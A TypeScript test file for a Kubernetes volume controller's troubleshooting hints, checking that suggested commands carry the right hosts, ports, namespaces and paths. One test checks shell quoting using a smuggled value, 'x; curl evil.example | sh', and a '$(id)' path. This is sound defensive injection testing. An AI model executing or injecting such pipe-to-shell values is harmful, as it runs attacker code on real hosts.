import { expect } from "chai";
import { hiddenSubjectOf, privateWordsIn } from "../../../hack/lib/prose/private-words.ts";
import { type Reason, reasons } from "../../../src/api/reasons.ts";
import type { NodeVolumeIntent } from "../../../src/api/types.gen.ts";
import { nextStep, nextSteps, podStep } from "../../../src/explain/next-steps.ts";
import { stepNamesOf } from "../../../src/explain/step-names.ts";

describe("nextStep", () => {
  const intent = {
    apiVersion: "nodevolume.dev/v1alpha1",
    kind: "NodeVolumeIntent",
    metadata: { name: "worker-1.data-38afb73ec3", labels: { "nodevolume.dev/set": "data" } },
    spec: {
      nodeName: "worker-1",
      volumeName: "data",
      source: { nfs: { server: "nas.example", path: "/data" } },
      mounts: [
        {
          name: "host",
          requester: { kind: "NodeVolumeSet", name: "data", uid: "u" },
          path: "/mnt/nodevolume/data",
          readOnly: false,
        },
      ],
    },
  } as unknown as NodeVolumeIntent;

  it("is there for each reason that asks something of people", () => {
    const asking = Object.entries(reasons).flatMap(([code, { kind }]) => (kind === "normal" ? [] : [code]));
    expect(asking.filter((code) => nextStep(code) === undefined)).to.deep.equal([]);
  });

  it("fits into two lines of explain", () => {
    const long = Object.entries(nextSteps).filter(([, text]) => text.length > 170);
    expect(long.map(([code]) => code)).to.deep.equal([]);
  });

  it("has no word that a reader would not search for", () => {
    const found = Object.values(nextSteps).flatMap((text) => [...privateWordsIn(text), ...hiddenSubjectOf(text)]);
    expect(found).to.deep.equal([]);
  });

  it("has the names of the intent filled in", () => {
    const names = stepNamesOf(intent);
    expect(nextStep("ServerUnreachable", names)).to.equal(
      "Check name, port and firewall from worker-1: getent hosts nas.example; nc -vz nas.example 2049. It is retried by itself.",
    );
    expect(nextStep("TargetBusy", names)).to.match(/fuser -vm \/mnt\/nodevolume\/data$/);
    expect(nextStep("NodeLost", names)).to.match(/kubectl nvi release worker-1 data --i-have-checked$/);
    expect(nextStep("Suspended", names)).to.match(/^To continue: kubectl patch nvs data --type merge -p '\{"spec":\{/);
  });

  it("names what is waited for before the claim of the volume", () => {
    const on = { kind: "Pod", namespace: "shop", name: "web" };
    const status = { waiting: { reason: "WaitingForKubelet", message: "m", since: "2026-01-01T00:00:00Z", on } };
    const spec = { ...intent.spec, pods: [{ uid: "u", namespace: "shop", name: "web", volume: "data" }] };
    const names = stepNamesOf({ ...intent, spec, status } as NodeVolumeIntent);
    expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n shop describe pod web$/);
  });

  it("names no object that only an agent names: with its token, somebody would choose what a command is for", () => {
    const source = { secret: { namespace: "databases", secretName: "password" } };
    const of = (kind: string, reason: string, namespace: string, name: string) => {
      const waiting = { reason, message: "m", since: "2026-01-01T00:00:00Z", on: { kind, namespace, name } };
      const spec = { ...intent.spec, source };
      return nextStep(reason, stepNamesOf({ ...intent, spec, status: { waiting } } as unknown as NodeVolumeIntent));
    };
    const denied = (namespace: string, name: string) => of("Secret", "SecretAccessDenied", namespace, name);
    expect(denied("databases", "password")).to.match(/kubectl -n databases apply -f role.yaml$/);
    expect(denied("kube-system", "password"), "the namespace that the spec has").to.include("-n databases apply");
    const claim = of("PersistentVolumeClaim", "ClaimNotAllowed", "payroll", "salaries");
    expect(claim).to.include("kubectl -n databases label pvc CLAIM allowed-set");
    expect(of("Pod", "WaitingForKubelet", "kube-system", "etcd-0")).to.match(/describe pod POD$/);
  });

  it("names the server of the spec where a mount is waited for by what it mounts", () => {
    const spec = { ...intent.spec, source: { nfs: { server: "nfs.example.com", path: "/export" } } };
    const on = { kind: "Server", name: "nfs.example.com:/export" };
    const status = { waiting: { reason: "ServerUnreachable", message: "m", since: "2026-01-01T00:00:00Z", on } };
    const names = stepNamesOf({ ...intent, spec, status } as NodeVolumeIntent);
    expect(nextStep("ServerUnreachable", names)).to.include(
      "getent hosts nfs.example.com; nc -vz nfs.example.com 2049.",
    );
  });

  it("has the whole command by which the owner of a claim allows a set", () => {
    const names = { namespace: "databases", claim: "archive", set: "data" };
    expect(nextStep("ClaimNotAllowed", names)).to.match(
      /kubectl -n databases label pvc archive allowed-set\.nodevolume\.dev\/data=true$/,
    );
    const source = { persistentVolumeClaim: { namespace: "databases", claimName: "archive" } };
    const on = { kind: "PersistentVolumeClaim", namespace: "databases", name: "twin" };
    const status = { attach: { reason: "ClaimNotAllowed", message: "m", since: "2026-01-01T00:00:00Z", on } };
    const waiting = { ...intent, spec: { ...intent.spec, source }, status } as NodeVolumeIntent;
    expect(nextStep("ClaimNotAllowed", stepNamesOf(waiting)), "the one that is named").to.include("pvc twin allowed-");
  });

  it("unmounts nothing but what the reason is about", () => {
    const [mount] = intent.spec.mounts;
    const second = { ...mount, name: "second", path: "/mnt/nodevolume/second" };
    const spec = { ...intent.spec, mounts: [mount, second] } as NodeVolumeIntent["spec"];
    const of = (reason: string, more: object) => {
      const waiting = { reason, message: "m", since: "2026-01-01T00:00:00Z", ...more };
      const mounts = [
        { name: "host", path: "/mnt/nodevolume/data", state: "Mounted" },
        { name: "second", path: second.path, state: "Foreign", reason: "ForeignMount" },
      ];
      return nextStep(reason, stepNamesOf({ ...intent, spec, status: { waiting, mounts } } as NodeVolumeIntent));
    };
    const pods = "/var/lib/kubelet/pods/u/volumes/kubernetes.io~csi/data/mount";
    expect(of("ForeignMount", {})).to.include("umount /mnt/nodevolume/second)");
    expect(of("ForeignMountBeneath", { on: { kind: "Mount", name: pods } })).to.include(`umount '${pods}', twice`);
    expect(of("TargetBusy", {}), "nobody has said which").to.match(/fuser -vm PATH$/);
    expect(nextStep("ForeignMountOnTarget", stepNamesOf({ ...intent, spec } as NodeVolumeIntent))).to.match(/PATH$/);
  });

  it("names server and port as programs take them", () => {
    const asked = (source: object, more: object = {}) =>
      nextStep(
        "ServerUnreachable",
        stepNamesOf({ ...intent, spec: { ...intent.spec, source, ...more } } as NodeVolumeIntent),
      );
    expect(asked({ nfs: { server: "[2001:db8::1]", path: "/" } })).to.include(
      "hosts 2001:db8::1; nc -vz 2001:db8::1 2049.",
    );
    expect(asked({ nfs: { server: "nas", path: "/" } }, { mountOptions: ["port=20049"] })).to.include("nas 20049.");
    expect(asked({ iscsi: { targetPortal: "10.0.0.7:3261", iqn: "iqn.2024-01.example:a", lun: 0 } })).to.include(
      "10.0.0.7 3261.",
    );
    expect(asked({ cephfs: { monitors: ["10.0.0.8"], secretRef: { namespace: "a", name: "b" } } })).to.include(
      "10.0.0.8 6789.",
    );
    expect(asked({ git: { repository: "https://git.example/team/app.git", revision: "0".repeat(40) } })).to.include(
      "git.example 443.",
    );
    expect(asked({ git: { repository: "ssh://git@[2001:db8::2]:2222/app.git", revision: "0".repeat(40) } })).to.include(
      "2001:db8::2 2222.",
    );
    expect(asked({ image: { reference: "127.0.0.1:5000/team/model@sha256:00" } })).to.include("127.0.0.1 5000.");
    expect(asked({ image: { reference: "docker.io/model@sha256:00" } })).to.include("registry-1.docker.io 443.");
    expect(asked({ csi: { driver: "disk.example", volumeHandle: "vol-1" } })).to.include(
      "firewall of the server in the message.",
    );
  });

  it("names nothing of a source that cannot be read", () => {
    const unreadable = [
      { glusterfs: { servers: 7 } },
      { image: { reference: { name: "x" } } },
      { git: { repository: ["https://host.example"] } },
      { local: { path: 4 } },
      { hostPath: { path: {} } },
      { persistentVolumeClaim: { namespace: 1, claimName: [] } },
      { iscsi: "portal" },
    ];
    for (const source of unreadable) {
      const names = stepNamesOf({ ...intent, spec: { ...intent.spec, source } } as unknown as NodeVolumeIntent);
      const { server, source: at, namespace, claim, device } = names;
      expect({ server, at, namespace, claim, device }).to.deep.equal({
        server: undefined,
        at: undefined,
        namespace: undefined,
        claim: undefined,
        device: undefined,
      });
    }
  });

  it("names the process that is waited for, and only that one", () => {
    const of = (kind: string) => {
      const on = { kind, name: "4711 (postgres) in container 0123456789ab of pod u" };
      const waiting = { reason: "TargetBusy", message: "m", since: "2026-01-01T00:00:00Z", on };
      return stepNamesOf({ ...intent, status: { waiting } } as NodeVolumeIntent);
    };
    expect(nextStep("TargetBusy", of("Process"))).to.match(/^On worker-1: kill 4711, and others/);
    expect(nextStep("StillReferenced", of("Process"))).to.match(/: nsenter -t 4711 -m findmnt$/);
    expect(nextStep("TargetBusy", of("Swap"))).to.match(/^End the processes that are named/);
    expect(nextStep("ServerUnreachable", of("Process"))).to.include("getent hosts nas.example");
  });

  it("does not send to the disk of a file system that is mounted", () => {
    expect(nextStep("FilesystemDamaged")).to.match(/^If it is mounted, take the node out of the set/);
  });

  it("names fields where the CRD has them, and the log of each replica", () => {
    expect(nextStep("ForeignMount")).to.match(/set adopt: IfSame on the set\.$/);
    for (const text of Object.values(nextSteps)) expect(text).to.not.match(/logs deploy/);
    expect(nextStep("NotGranted")).to.match(/logs -l app.kubernetes.io\/component=controller --prefix --tail=50$/);
  });

  it("speaks of the pod where its directory is meant", () => {
    expect(podStep("SymlinkInPath")).to.include("subPath");
    expect(podStep("ForeignMount", { node: "worker-1" })).to.not.match(/adopt|fstab/);
    expect(podStep("TargetBusy", { node: "worker-1" })).to.match(/fuser -vm PATH$/);
  });

  it("has each name as one word of a shell, whoever has written it, and none that nobody should paste", () => {
    const names = { namespace: "x; curl evil.example | sh", pod: "web" };
    expect(nextStep("WaitingForKubelet", names)).to.match(/kubectl -n 'x; curl evil\.example \| sh' describe pod web$/);
    expect(nextStep("TargetBusy", { node: "n", path: "/mnt/$(id)" })).to.match(/fuser -vm '\/mnt\/\$\(id\)'$/);
    for (const namespace of ["", "a\u001b[2K", "a\n"])
      expect(nextStep("WaitingForKubelet", { namespace })).to.match(/kubectl -n NAMESPACE describe pod POD$/);
  });

  it("leaves in capitals what is not known, and has no brace left", () => {
    for (const code of Object.keys(nextSteps) as Reason[]) expect(nextStep(code)).to.not.match(/\{[a-z]+\}/);
    expect(nextStep("UnexplainedRemoval")).to.match(/kubectl nvi orphans NODE$/);
  });

  it("says nothing of what asks nothing, or is no reason", () => {
    expect(nextStep("Mounted")).to.equal(undefined);
    expect(nextStep("constructor")).to.equal(undefined);
  });
});
